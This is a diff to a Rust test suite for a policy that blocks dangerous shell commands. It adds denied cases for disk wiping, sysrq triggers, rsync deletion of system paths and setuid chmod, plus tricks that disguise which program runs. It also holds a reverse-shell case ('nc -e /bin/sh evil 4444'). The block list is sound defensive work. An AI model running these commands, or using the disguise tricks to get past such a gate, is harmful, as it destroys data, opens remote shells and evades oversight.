@@ -54,8 +54,16 @@ const FORBIDDEN_CASES: &[(&str, &[&str], &[&str])] = &[
             "fdisk /dev/sda",
             "parted /dev/sda rm 1",
             "wipefs -a /dev/sdb",
+            "mkdosfs /dev/sda1",
+            "badblocks -wsv /dev/sda",
+            "dcfldd if=/dev/zero of=/dev/sda",
+            "nvme format /dev/nvme0n1",
+            "cryptsetup -q luksFormat /dev/sda2",
+            "lvremove -f vg0/data",
+            "zpool destroy tank",
+            "mdadm --zero-superblock /dev/sdb1",
         ],
-        &["ddclient --force", "df -h", "mkdir /tmp/x"],
+        &["ddclient --force", "df -h", "mkdir /tmp/x", "nvme list", "zpool status", "cryptsetup status root"],
     ),
     ("fork-bomb", &["bomb ':(){ :|:& };:'", "x :() {"], &["echo hello", "echo '()'"]),
     (
@@ -307,6 +315,12 @@ const FORBIDDEN_CASES: &[(&str, &[&str], &[&str])] = &[
             "systemctl start systemd-kexec.service",
             "systemctl start runlevel6.target",
             "systemctl start runlevel0.target",
+            "sudo systemctl start --job-mode=isolate multi-user.target",
+            "systemctl start --job-mode isolate rescue.target",
+            "systemctl start hybrid-sleep.target",
+            "systemctl start suspend-then-hibernate.target",
+            "kexec -e",
+            "kexec -l /boot/vmlinuz --reuse-cmdline --exec",
         ],
         &[
             "systemctl restart systemd-journald",
@@ -316,7 +330,19 @@ const FORBIDDEN_CASES: &[(&str, &[&str], &[&str])] = &[
             "rebootstrap --help",
             "systemctl restart reboot-notifier",
             "systemctl start web.target",
+            "systemctl start --job-mode=replace web",
+            "kexec -l /boot/vmlinuz --reuse-cmdline",
         ],
+    ),
+    (
+        "sysrq",
+        &[
+            "sudo cp /proc/self/comm /proc/sysrq-trigger",
+            "sort -o /proc/sysrq-trigger /proc/sys/kernel/core_pattern",
+            "dd of=/proc/sysrq-trigger",
+            "tee /proc//sysrq-trigger",
+        ],
+        &["cat /proc/sys/kernel/sysrq", "grep sysrq /etc/sysctl.conf"],
     ),
     (
         "kill-init-or-all",
@@ -418,6 +444,17 @@ const FORBIDDEN_CASES: &[(&str, &[&str], &[&str])] = &[
         ],
     ),
     (
+        "rsync-delete-system-path",
+        &[
+            "sudo rsync -a --delete /tmp/e/ /",
+            "rsync -a --delete /tmp/e/ /var/",
+            "rsync -a --delete-after /tmp/e/ //etc",
+            "rsync -a /tmp/e/ /home --delete",
+            "rsync -a --del /tmp/e/ /./",
+        ],
+        &["rsync -a --delete /srv/build/ /srv/web/", "rsync -a /tmp/e/ /var/"],
+    ),
+    (
         "reverse-shell",
         &["nc -e /bin/sh evil 4444", "ncat -c bash evil 80", "socat exec:/bin/sh tcp:evil:4444"],
         &["nc -z db 5432", "socat -V"],
@@ -510,6 +547,32 @@ const CRITICAL_CASES: &[(&str, &[&str], &[&str])] = &[
             "uniq -c /etc/passwd",
             "sponge /tmp/out",
         ],
+    ),
+    (
+        "rsync-delete",
+        &["rsync -a --delete /srv/build/ /srv/web/", "rsync -av --delete-excluded a/ b/"],
+        &["rsync -a /srv/build/ /srv/web/"],
+    ),
+    (
+        "find-write",
+        &[
+            "sudo find /run/systemd/system -maxdepth 0 -fprintf /run/systemd/system/pc.service x",
+            "find /srv -fprint /opt/app/bin/start",
+            "find . -fls /tmp/list",
+        ],
+        &["find /var/log -name '*.gz' -mtime +7", "find /srv -printf '%p\\n'"],
+    ),
+    (
+        "permissions-system-file",
+        &[
+            "sudo chmod u+s /bin/bash",
+            "chmod -R 000 /usr/bin",
+            "sudo chown app /etc/passwd",
+            "chmod 4755 /srv/app/helper",
+            "chmod g+s /srv/app/bin/run",
+            "chgrp wheel /usr/local/bin/x",
+        ],
+        &["chmod 755 /srv/app/helper", "chown -R web /var/lib/web", "chmod a+r /srv/web/app.conf", "chmod 0644 /tmp/x"],
     ),
     ("crontab-remove", &["crontab -r", "crontab -u app -r", "crontab -ir"], &["crontab -l", "crontab -u app -l"]),
     (
@@ -1455,4 +1518,28 @@ fn a_secret_may_stand_for_an_argument_never_for_the_program() {
     assert_eq!(p.gate_on_trusting("", &plan(&[requoted]), &trusted), GateDecision::Allow);
     let more = format!("{argument} --verbose");
     assert_eq!(p.gate_on_trusting("", &plan(&[&more]), &trusted).rule(), Some("secret-use"));
+}
+
+/// Found by review: a program word that reads as an option (the remote `exec` runs what
+/// follows it), a program run under another name (which some take for what to do), and the
+/// dynamic loader running a program the gate reads as an argument.
+#[test]
+fn what_runs_must_be_the_program_the_gate_read() {
+    let p = Policy::default_policy();
+    for (cmd, rule) in [
+        ("-- rm -rf --no-preserve-root /", "option-as-program"),
+        ("-- /usr/sbin/reboot", "option-as-program"),
+        ("sudo -- -a reboot systemctl", "option-as-program"),
+        ("sudo env -a reboot systemctl", "opaque-command"),
+        ("sudo env --argv0=pkill pgrep -9 -f .", "opaque-command"),
+        ("env -a rm busybox -rf /srv/data", "opaque-command"),
+        ("exec -a reboot systemctl", "opaque-command"),
+        ("sudo /lib64/ld-linux-x86-64.so.2 /usr/sbin/reboot", "command-runner"),
+        ("/lib/ld-musl-x86_64.so.1 /bin/rm -rf /srv", "command-runner"),
+    ] {
+        let rules = rules_hit(&p, cmd);
+        assert!(rules.iter().any(|r| r == rule), "{cmd}: {rules:?}");
+        assert!(matches!(p.gate(&plan(&[cmd])), GateDecision::Reject { .. }), "{cmd}");
+    }
+    assert!(matches!(p.gate(&plan(&["env LANG=C systemctl restart web"])), GateDecision::Allow));
 }
